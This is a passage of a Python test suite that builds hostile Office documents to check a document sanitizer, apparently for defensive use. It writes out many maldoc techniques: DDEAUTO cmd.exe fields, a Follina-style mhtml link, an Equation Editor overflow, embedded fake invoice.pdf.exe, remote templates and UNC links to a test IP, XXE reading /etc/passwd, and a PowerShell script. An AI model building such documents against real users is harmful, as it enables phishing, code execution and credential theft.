"""Hostile Office Open XML packages against the real CLI, judged by an inspector of our own.

Each hostile case is built here by hand (zipfile + XML written from ECMA-376, MS-OI29500,
MS-DOCX/MS-XLSX/MS-PPTX and public write-ups of real attacks), the whole set is sent through
`cli.py sanitize` once, and every case must end "quarantined, or released and accepted by the
inspector". The inspector below knows nothing of cdr (nothing is imported from it): it accepts
only what it knows to be harmless (part names, content types, relationship types, external
targets, XML without DTD/PI, field instructions, formula functions, the ZIP's own bytes) and
asks oletools (olevba, msodde) for a second opinion. It is shown to refuse every hostile input
as sent, so that it can fail.
"""

from __future__ import annotations

import importlib.util
import io
import json
import re
import struct
import subprocess
import sys
import zipfile
import zlib
from collections.abc import Callable
from functools import cache
from pathlib import Path

import pytest
from lxml import etree

ROOT = Path(__file__).resolve().parent.parent
PY = ROOT / ".venv" / "bin" / "python"

W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PKG_REL = "http://schemas.openxmlformats.org/package/2006/relationships"
CT_NS = "http://schemas.openxmlformats.org/package/2006/content-types"
S = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
A = "http://schemas.openxmlformats.org/drawingml/2006/main"
P = "http://schemas.openxmlformats.org/presentationml/2006/main"
MS_REL = "http://schemas.microsoft.com/office/2006/relationships"
VBA_REL = f"{MS_REL}/vbaProject"
EVIL = "198.51.100.7"  # TEST-NET-2
UNC = f"\\\\{EVIL}\\share"

# ---------------------------------------------------------------------------------------------
# low-level writers: a ZIP we control byte by byte, a compound file (CFB v3) for OLE payloads
# ---------------------------------------------------------------------------------------------


def raw_zip(
    entries: list[tuple[str, bytes]],
    *,
    prefix: bytes = b"",
    gap_after: dict[int, bytes] | None = None,
    trailer: bytes = b"",
    comment: bytes = b"",
    central_names: dict[int, str] | None = None,
    deflate: bool = True,
) -> bytes:
    """Entries in this order (duplicates allowed); optional bytes before, between, after."""
    gap_after = gap_after or {}
    central_names = central_names or {}
    out = bytearray(prefix)
    central = bytearray()
    for index, (name, data) in enumerate(entries):
        crc = zlib.crc32(data) & 0xFFFFFFFF
        if deflate:
            compressor = zlib.compressobj(6, zlib.DEFLATED, -15)
            stored, method = compressor.compress(data) + compressor.flush(), 8
        else:
            stored, method = data, 0
        local_name = name.encode()
        offset = len(out)
        out += struct.pack(
            "<IHHHHHIIIHH", 0x04034B50, 20, 0x0800, method, 0, 0x21, crc, len(stored), len(data), len(local_name), 0
        )
        out += local_name + stored
        out += gap_after.get(index, b"")
        cname = central_names.get(index, name).encode()
        central += struct.pack(
            "<IHHHHHHIIIHHHHHII",
            0x02014B50, 20, 20, 0x0800, method, 0, 0x21, crc, len(stored), len(data), len(cname), 0, 0, 0, 0, 0,
            offset,
        )
        central += cname
    cd_offset = len(out)
    out += central
    out += struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, len(entries), len(entries), len(central), cd_offset, len(comment))
    out += comment + trailer
    return bytes(out)


ENDOFCHAIN, FATSECT, FREESECT, NOSTREAM = 0xFFFFFFFE, 0xFFFFFFFD, 0xFFFFFFFF, 0xFFFFFFFF


def cfb(streams: dict[str, bytes], root_clsid: bytes = b"\0" * 16) -> bytes:
    """A minimal compound file: root + streams (each padded to the mini-stream cutoff)."""
    sect = 512
    fat: list[int] = []
    body = bytearray()
    placed: list[tuple[str, int, int]] = []
    for name, data in streams.items():
        data = data.ljust(4096, b"\0")
        count = (len(data) + sect - 1) // sect
        start = len(fat)
        fat += [start + i + 1 for i in range(count - 1)] + [ENDOFCHAIN]
        body += data.ljust(count * sect, b"\0")
        placed.append((name, start, len(data)))
    entries = 1 + len(placed)
    dir_sectors = (entries + 3) // 4
    dir_start = len(fat)
    fat += [dir_start + i + 1 for i in range(dir_sectors - 1)] + [ENDOFCHAIN]
    fat_count = 1
    while len(fat) + fat_count > fat_count * 128:
        fat_count += 1
    fat_start = len(fat)
    fat += [FATSECT] * fat_count
    fat += [FREESECT] * (fat_count * 128 - len(fat))

    def entry(name: str, kind: int, child: int, right: int, clsid: bytes, start: int, size: int) -> bytes:
        encoded = name.encode("utf-16-le") + b"\0\0" if name else b""
        return (
            encoded.ljust(64, b"\0")
            + struct.pack("<HBBIII", len(encoded), kind, 1, NOSTREAM, right, child)
            + clsid
            + struct.pack("<IQQIQ", 0, 0, 0, start, size)
        )

    directory = entry("Root Entry", 5, 1 if placed else NOSTREAM, NOSTREAM, root_clsid, ENDOFCHAIN, 0)
    for i, (name, start, size) in enumerate(placed):
        right = i + 2 if i + 1 < len(placed) else NOSTREAM
        directory += entry(name, 2, NOSTREAM, right, b"\0" * 16, start, size)
    while len(directory) < dir_sectors * sect:
        directory += entry("", 0, NOSTREAM, NOSTREAM, b"\0" * 16, 0, 0)
    header = (
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
        + b"\0" * 16
        + struct.pack("<HHHHH", 0x3E, 3, 0xFFFE, 9, 6)
        + b"\0" * 6
        + struct.pack("<IIIIIIIII", 0, fat_count, dir_start, 0, 4096, ENDOFCHAIN, 0, ENDOFCHAIN, 0)
    )
    difat = [fat_start + i for i in range(fat_count)] + [FREESECT] * (109 - fat_count)
    header += struct.pack("<109I", *difat)
    return header + bytes(body) + bytes(directory) + struct.pack(f"<{len(fat)}I", *fat)


def clsid(text: str) -> bytes:
    a, b, c, d, e = text.split("-")
    return struct.pack("<IHH", int(a, 16), int(b, 16), int(c, 16)) + bytes.fromhex(d + e)


EXE = (
    b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00\xb8" + b"\0" * 43 + b"\x80\0\0\0"
    + b"\x0e\x1f\xba\x0e\x00\xb4\x09\xcd\x21\xb8\x01\x4c\xcd\x21This program cannot be run in DOS mode.\r\r\n$"
).ljust(0x80, b"\0") + b"PE\0\0\x4c\x01" + b"\0" * 200


def ole_package_exe() -> bytes:
    """An OLE Package (packager.dll) object whose native data is a Windows program."""
    temp = b"C:\\Users\\Public\\AppData\\Local\\Temp\\invoice.pdf.exe"
    inner = (
        struct.pack("<H", 2) + b"invoice.pdf.exe\0" + b"C:\\Users\\Public\\invoice.pdf.exe\0"
        + struct.pack("<HH", 0, 3) + struct.pack("<I", len(temp) + 1) + temp + b"\0"
        + struct.pack("<I", len(EXE)) + EXE
    )
    native = struct.pack("<I", len(inner)) + inner
    return cfb({"\x01Ole10Native": native}, clsid("0003000C-0000-0000-C000-000000000046"))


def ole_equation() -> bytes:
    """An Equation Editor 3.0 object (CVE-2017-11882 family: an overlong font name)."""
    mtef = struct.pack("<HIHIIII", 0x1C, 0, 0, 0, 0, 0, 0)[:28].ljust(28, b"\0")
    payload = b"\x03\x01\x01\x03\x0a\x0a\x08" + b"cmd.exe /c calc.exe &" + b"A" * 30 + b"\x12\x0c\x43\x00"
    return cfb({"Equation Native": mtef + payload}, clsid("0002CE02-0000-0000-C000-000000000046"))


def activex_bin() -> bytes:
    return cfb({"contents": b"\x00\x02\x20\x00" + b"Shell calc.exe" * 10},
               clsid("D7053240-CE69-11CD-A777-00DD01143C57"))


@cache
def vba_project() -> bytes:
    """A real vbaProject.bin (from xlwings' quickstart workbook, a test dependency)."""
    spec = importlib.util.find_spec("xlwings")
    assert spec and spec.submodule_search_locations
    book = Path(list(spec.submodule_search_locations)[0]) / "quickstart.xlsm"
    with zipfile.ZipFile(book) as package:
        return package.read("xl/vbaProject.bin")


@cache
def xlsm_bytes() -> bytes:
    spec = importlib.util.find_spec("xlwings")
    assert spec and spec.submodule_search_locations
    return (Path(list(spec.submodule_search_locations)[0]) / "quickstart.xlsm").read_bytes()


# ---------------------------------------------------------------------------------------------
# benign bases and a package editor
# ---------------------------------------------------------------------------------------------

JA_TEXT = ["令和6年度 熊対策事業 予算説明資料", "電気柵の設置費用は 1,200,000 円です。", "担当: 総務課 危機管理係"]
JA_TABLE = [["品目", "金額"], ["電気柵", "1,200,000"], ["看板", "45,000"]]
SLIDES = ["熊出没注意", "電気柵の設置", "住民説明会のご案内"]


def png_bytes(size: int = 24) -> bytes:
    from PIL import Image

    buffer = io.BytesIO()
    Image.new("RGB", (size, size), (200, 40, 40)).save(buffer, "PNG")
    return buffer.getvalue()


def jpeg_bytes(size: int = 24) -> bytes:
    from PIL import Image

    buffer = io.BytesIO()
    Image.new("RGB", (size, size), (40, 200, 40)).save(buffer, "JPEG")
    return buffer.getvalue()


@cache
def docx_base() -> bytes:
    import docx

    document = docx.Document()
    for line in JA_TEXT:
        document.add_paragraph(line)
    table = document.add_table(rows=3, cols=2)
    for r, row in enumerate(JA_TABLE):
        for c, value in enumerate(row):
            table.cell(r, c).text = value
    document.add_picture(io.BytesIO(png_bytes(48)))
    buffer = io.BytesIO()
    document.save(buffer)
    return strip_leftovers(buffer.getvalue())


@cache
def xlsx_base() -> bytes:
    import openpyxl

    book = openpyxl.Workbook()
    sheet = book.active
    sheet.title = "予算"
    rows = [("品目", "金額"), ("電気柵", 1200000), ("看板", 45000), ("合計", "=SUM(B2:B3)"),
            ("検索", '=VLOOKUP("看板",A2:B3,2,FALSE)')]
    for row in rows:
        sheet.append(row)
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


@cache
def pptx_base() -> bytes:
    import pptx

    presentation = pptx.Presentation()
    for title in SLIDES:
        slide = presentation.slides.add_slide(presentation.slide_layouts[1])
        slide.shapes.title.text = title
        slide.placeholders[1].text = "詳しくは総務課まで"
    buffer = io.BytesIO()
    presentation.save(buffer)
    return strip_leftovers(buffer.getvalue())


class Pkg:
    def __init__(self, data: bytes) -> None:
        with zipfile.ZipFile(io.BytesIO(data)) as z:
            self.parts = {name: z.read(name) for name in z.namelist()}

    def text(self, name: str) -> str:
        return self.parts[name].decode("utf-8")

    def put(self, name: str, data: bytes | str, content_type: str | None = None) -> Pkg:
        self.parts[name] = data.encode() if isinstance(data, str) else data
        if content_type:
            self.override("/" + name, content_type)
        return self

    def sub(self, name: str, old: str, new: str, count: int = 1) -> Pkg:
        text = self.text(name)
        assert old in text, (name, old)
        self.parts[name] = text.replace(old, new, count).encode()
        return self

    def rel(self, rels: str, rid: str, rtype: str, target: str, external: bool = False) -> Pkg:
        if rels not in self.parts:
            self.parts[rels] = f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Relationships xmlns="{PKG_REL}"></Relationships>'.encode()
        mode = ' TargetMode="External"' if external else ""
        target = target.replace("&", "&amp;").replace('"', "&quot;")
        return self.sub(rels, "</Relationships>", f'<Relationship Id="{rid}" Type="{rtype}" Target="{target}"{mode}/></Relationships>')

    def override(self, part: str, content_type: str) -> Pkg:
        return self.sub("[Content_Types].xml", "</Types>", f'<Override PartName="{part}" ContentType="{content_type}"/></Types>')

    def default(self, ext: str, content_type: str) -> Pkg:
        text = self.text("[Content_Types].xml")
        text = re.sub(rf'<Default Extension="{ext}"[^>]*/>', "", text)
        self.parts["[Content_Types].xml"] = text.replace("</Types>", f'<Default Extension="{ext}" ContentType="{content_type}"/></Types>').encode()
        return self

    def main_type(self, part: str, content_type: str) -> Pkg:
        text = self.text("[Content_Types].xml")
        text, n = re.subn(rf'(<Override PartName="{re.escape(part)}" ContentType=")[^"]*"', rf'\g<1>{content_type}"', text)
        assert n == 1
        self.parts["[Content_Types].xml"] = text.encode()
        return self

    def body(self, xml: str) -> Pkg:
        """Append paragraphs (WordprocessingML) before the final sectPr of the document."""
        text = self.text("word/document.xml")
        index = text.rindex("<w:sectPr")
        self.parts["word/document.xml"] = (text[:index] + xml + text[index:]).encode()
        return self

    def bytes(self) -> bytes:
        buffer = io.BytesIO()
        with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as z:
            for name, data in self.parts.items():
                z.writestr(name, data)
        return buffer.getvalue()

    def entries(self) -> list[tuple[str, bytes]]:
        return list(self.parts.items())


def ensure_r(pkg: Pkg, name: str, root: str) -> None:
    text = pkg.text(name)
    start = text.index(f"<{root} ")
    end = text.index(">", start)
    if "xmlns:r=" not in text[start:end]:
        pkg.parts[name] = (text[:start] + f'<{root} xmlns:r="{R}" ' + text[start + len(root) + 2:]).encode()


def strip_leftovers(data: bytes) -> bytes:
    """Drop what python-docx/pptx's templates carry and cdr removes anyway (custom XML, thumbnail,
    printer settings), so that the bases are what the inspector accepts and each hostile case is
    refused for its own feature."""
    pkg = Pkg(data)
    for name in list(pkg.parts):
        if name.startswith(("customXml/", "docProps/thumbnail", "ppt/printerSettings/")):
            del pkg.parts[name]
    for name in list(pkg.parts):
        if name.endswith(".rels"):
            text = pkg.text(name)
            text = re.sub(r'<Relationship [^>]*Type="[^"]*/(customXml|metadata/thumbnail|printerSettings)"[^>]*/>', "", text)
            pkg.parts[name] = text.encode()
    text = pkg.text("[Content_Types].xml")
    text = re.sub(r'<Override PartName="/(customXml|docProps/thumbnail|ppt/printerSettings)[^>]*/>', "", text)
    text = re.sub(r'<Default Extension="(bin|jpeg)"[^>]*/>', "", text)
    pkg.parts["[Content_Types].xml"] = text.encode()
    return pkg.bytes()


def d() -> Pkg:
    return Pkg(docx_base())


def x() -> Pkg:
    return Pkg(xlsx_base())


def p() -> Pkg:
    return Pkg(pptx_base())


def run(text: str, hidden: bool = False) -> str:
    rpr = "<w:rPr><w:vanish/></w:rPr>" if hidden else ""
    return f'<w:r>{rpr}<w:t xml:space="preserve">{text}</w:t></w:r>'


def fld(kind: str) -> str:
    return f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>'


def instr(text: str) -> str:
    return f'<w:r><w:instrText xml:space="preserve">{esc(text)}</w:instrText></w:r>'


def esc(text: str) -> str:
    return text.replace("&", "&amp;").replace("<", "&lt;").replace('"', "&quot;")


def field_para(instruction: str, result: str = "請求書を見る", split: bool = False) -> str:
    pieces = [instr(c) for c in instruction] if split else [instr(instruction)]
    return f"<w:p>{fld('begin')}{''.join(pieces)}{fld('separate')}{run(result)}{fld('end')}</w:p>"


CT = "application/vnd.openxmlformats-officedocument"
DOCX_MAIN = f"{CT}.wordprocessingml.document.main+xml"
OD_REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"

# ---------------------------------------------------------------------------------------------
# hostile builders: Word
# ---------------------------------------------------------------------------------------------


def docx_template(target: str, rel_type: str = f"{OD_REL}/attachedTemplate", main: str | None = None) -> bytes:
    pkg = d()
    pkg.rel("word/_rels/settings.xml.rels", "rIdTpl", rel_type, target, external=True)
    pkg.sub("word/settings.xml", "<w:zoom", '<w:attachedTemplate r:id="rIdTpl"/><w:zoom')
    if main:
        pkg.main_type("/word/document.xml", main)
    return pkg.bytes()


def docx_ext_hyperlink(target: str, hidden: bool = False) -> bytes:
    pkg = d().rel("word/_rels/document.xml.rels", "rIdH", f"{OD_REL}/hyperlink", target, external=True)
    return pkg.body(f'<w:p><w:hyperlink r:id="rIdH">{run("請求書はこちら", hidden)}</w:hyperlink></w:p>').bytes()


def docx_follina() -> bytes:
    target = f"mhtml:http://{EVIL}/x.html!x-usc:http://{EVIL}/x.html"
    pkg = d().rel("word/_rels/document.xml.rels", "rIdF", f"{OD_REL}/oleObject", target, external=True)
    return pkg.body(
        '<w:p><w:r><w:object><o:OLEObject Type="Link" ProgID="htmlfile" ShapeID="_x0000_i1025" '
        'DrawAspect="Content" r:id="rIdF" UpdateMode="OnCall"><o:LinkType>EnhancedMetaFile</o:LinkType>'
        "<o:LockedField>false</o:LockedField></o:OLEObject></w:object></w:r></w:p>"
    ).bytes()


def docx_altchunk(name: str, ctype: str, data: bytes) -> bytes:
    pkg = d().put(f"word/{name}", data, ctype)
    pkg.rel("word/_rels/document.xml.rels", "rIdAf", f"{OD_REL}/aFChunk", name)
    return pkg.body('<w:altChunk r:id="rIdAf"/>').bytes()


HTML_CHUNK = b'<html><body><p>x</p><script>new ActiveXObject("WScript.Shell").Run("calc")</script></body></html>'
MHT_CHUNK = (
    b'MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary="b"\r\n\r\n--b\r\n'
    b"Content-Type: text/html\r\nContent-Location: file:///C:/x.htm\r\n\r\n" + HTML_CHUNK + b"\r\n--b--\r\n"
)
RTF_CHUNK = rb"{\rtf1{\object\objemb{\*\objclass Package}{\*\objdata 01050000020000000b0000005061636b61676500}}}"

CUSTOM_UI = (
    '<customUI xmlns="http://schemas.microsoft.com/office/2006/01/customui" onLoad="RibbonOnLoad">'
    '<ribbon><tabs><tab id="t" label="x"><group id="g" label="g"><button id="b" label="b" onAction="Run"/>'
    "</group></tab></tabs></ribbon></customUI>"
)


def with_custom_ui(pkg: Pkg, version14: bool) -> bytes:
    if version14:
        xml = CUSTOM_UI.replace("2006/01/customui", "2009/07/customui")
        pkg.put("customUI/customUI14.xml", xml)
        pkg.rel("_rels/.rels", "rIdUI", "http://schemas.microsoft.com/office/2007/relationships/ui/extensibility", "customUI/customUI14.xml")
    else:
        pkg.put("customUI/customUI.xml", CUSTOM_UI)
        pkg.rel("_rels/.rels", "rIdUI", f"{MS_REL}/ui/extensibility", "customUI/customUI.xml")
    return pkg.bytes()


def with_webextension(pkg: Pkg, folder: str) -> bytes:
    we = "http://schemas.microsoft.com/office/webextensions/webextension/2010/11"
    wetp = "http://schemas.microsoft.com/office/webextensions/taskpanes/2010/11"
    pkg.put(
        f"{folder}/webextensions/webextension1.xml",
        f'<we:webextension xmlns:we="{we}" id="{{52811C31-4593-43B8-A697-EB873422D156}}">'
        f'<we:reference id="wa104380862" version="1.0.0.0" store="https://{EVIL}/addin/manifest.xml" storeType="Uploadfiles"/>'
        "<we:alternateReferences/><we:properties/><we:bindings/><we:snapshot/></we:webextension>",
        "application/vnd.ms-office.webextension+xml",
    )
    pkg.put(
        f"{folder}/webextensions/taskpanes.xml",
        f'<wetp:taskpanes xmlns:wetp="{wetp}" xmlns:r="{R}"><wetp:taskpane dockstate="right" visibility="1" '
        'width="350" row="4"><wetp:webextensionref r:id="rId1"/></wetp:taskpane></wetp:taskpanes>',
        "application/vnd.ms-office.webextensiontaskpanes+xml",
    )
    pkg.rel(f"{folder}/webextensions/_rels/taskpanes.xml.rels", "rId1",
            "http://schemas.microsoft.com/office/2011/relationships/webextension", "webextension1.xml")
    pkg.rel("_rels/.rels", "rIdWE", "http://schemas.microsoft.com/office/2011/relationships/webextensiontaskpanes",
            f"{folder}/webextensions/taskpanes.xml")
    return pkg.bytes()


def docm_vba() -> bytes:
    pkg = d().put("word/vbaProject.bin", vba_project(), "application/vnd.ms-office.vbaProject")
    pkg.rel("word/_rels/document.xml.rels", "rIdVba", VBA_REL, "vbaProject.bin")
    pkg.main_type("/word/document.xml", "application/vnd.ms-word.document.macroEnabled.main+xml")
    return pkg.bytes()


def docx_vba_octet() -> bytes:
    pkg = d().put("word/vbaProject.bin", vba_project()).default("bin", "application/octet-stream")
    return pkg.rel("word/_rels/document.xml.rels", "rIdVba", VBA_REL, "vbaProject.bin").bytes()


def docx_vba_as_png() -> bytes:
    pkg = d().put("word/media/image9.png", vba_project()).default("png", "image/png")
    return pkg.rel("word/_rels/document.xml.rels", "rIdVba", VBA_REL, "media/image9.png").bytes()


def docx_vba_from(rels: str, target: str) -> bytes:
    pkg = d().put("word/vbaProject.bin", vba_project(), "application/vnd.ms-office.vbaProject")
    return pkg.rel(rels, "rIdVba", VBA_REL, target).bytes()


def docx_vba_case_override() -> bytes:
    pkg = d().put("word/VbaProject.bin", vba_project()).override("/word/vbaproject.BIN", "application/vnd.ms-office.vbaProject")
    pkg.default("bin", "image/png")
    pkg.rel("word/_rels/document.xml.rels", "rIdVba", VBA_REL, "VbaProject.bin")
    return pkg.main_type("/word/document.xml", "application/vnd.ms-word.document.macroEnabled.main+xml").bytes()


def docx_activex() -> bytes:
    pkg = d().put("word/activeX/activeX1.bin", activex_bin(), "application/vnd.ms-office.activeX")
    pkg.put(
        "word/activeX/activeX1.xml",
        '<ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX" xmlns:r="' + R + '" '
        'ax:classid="{D7053240-CE69-11CD-A777-00DD01143C57}" ax:persistence="persistStorage" r:id="rId1"/>',
        "application/vnd.ms-office.activeX+xml",
    )
    pkg.rel("word/activeX/_rels/activeX1.xml.rels", "rId1", f"{MS_REL}/activeXControlBinary", "activeX1.bin")
    pkg.rel("word/_rels/document.xml.rels", "rIdAx", f"{OD_REL}/control", "activeX/activeX1.xml")
    return pkg.body(
        '<w:p><w:r><w:object><w:control r:id="rIdAx" w:name="CommandButton1" w:shapeid="_x0000_i1026"/>'
        "</w:object></w:r></w:p>"
    ).bytes()


def docx_ole(data: bytes, prog_id: str) -> bytes:
    pkg = d().put("word/embeddings/oleObject1.bin", data, f"{CT}.oleObject")
    pkg.rel("word/_rels/document.xml.rels", "rIdOle", f"{OD_REL}/oleObject", "embeddings/oleObject1.bin")
    return pkg.body(
        f'<w:p><w:r><w:object><o:OLEObject Type="Embed" ProgID="{prog_id}" ShapeID="_x0000_i1027" '
        'DrawAspect="Icon" ObjectID="_1" r:id="rIdOle"/></w:object></w:r></w:p>'
    ).bytes()


DDE = 'DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe"'


def docx_fldsimple(instruction: str) -> bytes:
    return d().body(f'<w:p><w:fldSimple w:instr="{esc(instruction)}">{run("更新")}</w:fldSimple></w:p>').bytes()


def docx_complex(instruction: str, split: bool = False) -> bytes:
    return d().body(field_para(instruction, split=split)).bytes()


def docx_quote_built_dde() -> bytes:
    inner = f"{fld('begin')}{instr('QUOTE 68 68 69 65 85 84 79')}{fld('separate')}{run('DDEAUTO')}{fld('end')}"
    tail = instr(' c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe" ')
    para = f"<w:p>{fld('begin')}{instr(' ')}{inner}{tail}{fld('separate')}{run('x')}{fld('end')}</w:p>"
    return d().body(para).bytes()


def docx_dde_tracked(kind: str) -> bytes:
    """A DDE field inside a tracked deletion (comes back when the change is rejected) or insertion."""
    tag = "w:delInstrText" if kind == "del" else "w:instrText"
    body = (
        f'<w:p><w:{kind} w:id="1" w:author="x" w:date="2024-01-01T00:00:00Z">{fld("begin")}'
        f'<w:r><{tag} xml:space="preserve">{esc(DDE)}</{tag}></w:r>{fld("separate")}{run("x")}{fld("end")}'
        f"</w:{kind}></w:p>"
    )
    return d().body(body).bytes()


def docx_dde_textbox() -> bytes:
    return d().body(
        '<w:p><w:r><w:pict><v:shape id="tb" style="width:100pt;height:20pt"><v:textbox><w:txbxContent>'
        f'<w:p><w:fldSimple w:instr="{esc(DDE)}">{run("x")}</w:fldSimple></w:p>'
        "</w:txbxContent></v:textbox></v:shape></w:pict></w:r></w:p>"
    ).bytes()


def pptx_layout_program() -> bytes:
    pkg = p()
    layout = "ppt/slideLayouts/slideLayout1.xml"
    pkg.rel("ppt/slideLayouts/_rels/slideLayout1.xml.rels", "rIdA", f"{OD_REL}/hyperlink", "cmd.exe /c calc", external=True)
    text = pkg.text(layout)
    text, n = re.subn(r'(<p:cNvPr id="\d+" name="[^"]*")/>', r'\1><a:hlinkMouseOver r:id="rIdA" action="ppaction://program"/></p:cNvPr>', text, count=1)
    assert n == 1
    if "xmlns:r=" not in text[:400]:
        text = text.replace("<p:sldLayout ", f'<p:sldLayout xmlns:r="{R}" ', 1)
    pkg.parts[layout] = text.encode()
    return pkg.bytes()


def docx_dde_in_header() -> bytes:
    header = (
        f'<w:hdr xmlns:w="{W}" xmlns:r="{R}">'
        f"{field_para(DDE)}</w:hdr>"
    )
    pkg = d().put("word/header1.xml", header, f"{CT}.wordprocessingml.header+xml")
    pkg.rel("word/_rels/document.xml.rels", "rIdHdr", f"{OD_REL}/header", "header1.xml")
    text = pkg.text("word/document.xml")
    index = text.rindex("<w:sectPr")
    close = text.index(">", index) + 1
    pkg.parts["word/document.xml"] = (text[:close] + '<w:headerReference w:type="default" r:id="rIdHdr"/>' + text[close:]).encode()
    return pkg.bytes()


def docx_dde_glossary() -> bytes:
    glossary = (
        f'<w:glossaryDocument xmlns:w="{W}" xmlns:r="{R}"><w:docParts><w:docPart><w:docPartPr>'
        '<w:name w:val="x"/><w:category><w:name w:val="General"/><w:gallery w:val="placeholder"/></w:category>'
        f"</w:docPartPr><w:docPartBody>{field_para(DDE)}</w:docPartBody></w:docPart></w:docParts></w:glossaryDocument>"
    )
    pkg = d().put("word/glossary/document.xml", glossary, f"{CT}.wordprocessingml.document.glossary+xml")
    return pkg.rel("word/_rels/document.xml.rels", "rIdGl", f"{OD_REL}/glossaryDocument", "glossary/document.xml").bytes()


def docx_linked_picture() -> bytes:
    pkg = d().rel("word/_rels/document.xml.rels", "rIdL", f"{OD_REL}/image", f"{UNC}\\logo.png", external=True)
    return pkg.body(
        '<w:p><w:r><w:pict><v:shape id="s1" style="width:20pt;height:20pt">'
        '<v:imagedata r:id="rIdL" o:title=""/></v:shape></w:pict></w:r></w:p>'
    ).bytes()


def docx_blip_link() -> bytes:
    pkg = d().rel("word/_rels/document.xml.rels", "rIdL", f"{OD_REL}/image", f"file:///{UNC}\\logo.png", external=True)
    text = pkg.text("word/document.xml")
    text, n = re.subn(r'<a:blip r:embed="[^"]*"', '<a:blip r:link="rIdL"', text)
    assert n == 1
    pkg.parts["word/document.xml"] = text.encode()
    return pkg.bytes()


def docx_subdoc() -> bytes:
    pkg = d().rel("word/_rels/document.xml.rels", "rIdSub", f"{OD_REL}/subDocument", f"{UNC}\\sub.docx", external=True)
    return pkg.body('<w:p><w:subDoc r:id="rIdSub"/></w:p>').bytes()


def docx_frameset() -> bytes:
    pkg = d().rel("word/_rels/webSettings.xml.rels", "rIdFr", f"{OD_REL}/frame", f"http://{EVIL}/frame.html", external=True)
    return pkg.sub(
        "word/webSettings.xml", "</w:webSettings>",
        '<w:frameset><w:frame><w:name w:val="f"/><w:sourceFileName r:id="rIdFr"/></w:frame></w:frameset></w:webSettings>',
    ).bytes()


def docx_mailmerge() -> bytes:
    pkg = d().rel("word/_rels/settings.xml.rels", "rIdMM", f"{OD_REL}/mailMergeSource", f"{UNC}\\list.xlsx", external=True)
    return pkg.sub(
        "word/settings.xml", "<w:zoom",
        '<w:mailMerge><w:mainDocumentType w:val="formLetters"/><w:linkToQuery/><w:dataType w:val="native"/>'
        f'<w:connectString w:val="Provider=Microsoft.ACE.OLEDB.12.0;Data Source={esc(UNC)}\\list.xlsx"/>'
        '<w:query w:val="SELECT * FROM `Sheet1$`"/><w:dataSource r:id="rIdMM"/></w:mailMerge><w:zoom',
    ).bytes()


def docx_smartart() -> bytes:
    dgm = "http://schemas.openxmlformats.org/drawingml/2006/diagram"
    data = (
        f'<dgm:dataModel xmlns:dgm="{dgm}" xmlns:a="{A}" xmlns:r="{R}"><dgm:ptLst>'
        '<dgm:pt modelId="{00000000-0000-0000-0000-000000000001}" type="doc"><dgm:prSet/><dgm:spPr/>'
        '<dgm:t><a:bodyPr/><a:p><a:r><a:rPr><a:hlinkClick r:id="rIdX"/></a:rPr><a:t>x</a:t></a:r></a:p></dgm:t></dgm:pt>'
        "</dgm:ptLst></dgm:dataModel>"
    )
    pkg = d().put("word/diagrams/data1.xml", data, f"{CT}.drawingml.diagramData+xml")
    pkg.rel("word/diagrams/_rels/data1.xml.rels", "rIdX", f"{OD_REL}/hyperlink", f"file:///{UNC}\\x.exe", external=True)
    pkg.rel("word/_rels/document.xml.rels", "rIdDm", f"{OD_REL}/diagramData", "diagrams/data1.xml")
    return pkg.body(
        '<w:p><w:r><w:drawing><wp:inline><wp:extent cx="100000" cy="100000"/><wp:docPr id="9" name="d"/>'
        '<a:graphic xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main">'
        '<a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/diagram">'
        f'<dgm:relIds xmlns:dgm="{dgm}" r:dm="rIdDm" r:lo="" r:qs="" r:cs=""/></a:graphicData></a:graphic>'
        "</wp:inline></w:drawing></w:r></w:p>"
    ).bytes()


def docx_customxml_script() -> bytes:
    pkg = d()
    pkg.parts["customXml/item1.xml"] = (
        b'<?xml version="1.0"?><root xmlns:h="http://www.w3.org/1999/xhtml"><h:script>'
        b'new ActiveXObject("WScript.Shell").Run("powershell -enc AAAA")</h:script></root>'
    )
    return pkg.bytes()


def docx_doctype() -> bytes:
    pkg = d()
    text = pkg.text("word/document.xml")
    text = text.replace(
        "<w:document ",
        '<!DOCTYPE w:document [<!ENTITY x SYSTEM "file:///etc/passwd"><!ENTITY a "aaaaaaaaaa">'
        '<!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]>\n<w:document ', 1,
    )
    pkg.parts["word/document.xml"] = text.encode()
    return pkg.body(f"<w:p>{run('&x;&b;')}</w:p>").bytes()


def docx_utf16_dde() -> bytes:
    pkg = d().body(f'<w:p><w:fldSimple w:instr="{esc(DDE)}">{run("x")}</w:fldSimple></w:p>')
    text = pkg.text("word/document.xml").replace("encoding='UTF-8'", "encoding='UTF-16'")
    pkg.parts["word/document.xml"] = text.encode("utf-16")
    return pkg.bytes()


def docx_pi_comment() -> bytes:
    pkg = d()
    text = pkg.text("word/document.xml")
    text = text.replace(
        "<w:document ",
        f'<?xml-stylesheet type="text/xsl" href="{UNC}\\x.xsl"?><?mso-application progid="Word.Document"?>'
        "<!-- TVqQAAMAAAAEAAAA//8AALgAAAAAAAAAQAAAAAAAAAA -->\n<w:document ", 1,
    )
    text = text.replace("<w:body>", "<w:body><!-- payload --><?evil run?>", 1)
    pkg.parts["word/document.xml"] = text.encode()
    return pkg.bytes()


def docx_cdata_mz() -> bytes:
    return d().body(
        '<w:p><w:r><w:t><![CDATA[MZ payload <script>calc</script> TVqQAAMAAAAEAAAA]]></w:t></w:r></w:p>'
    ).bytes()


def docx_appended(part_finder: Callable[[Pkg], str], payload: bytes) -> bytes:
    pkg = d()
    name = part_finder(pkg)
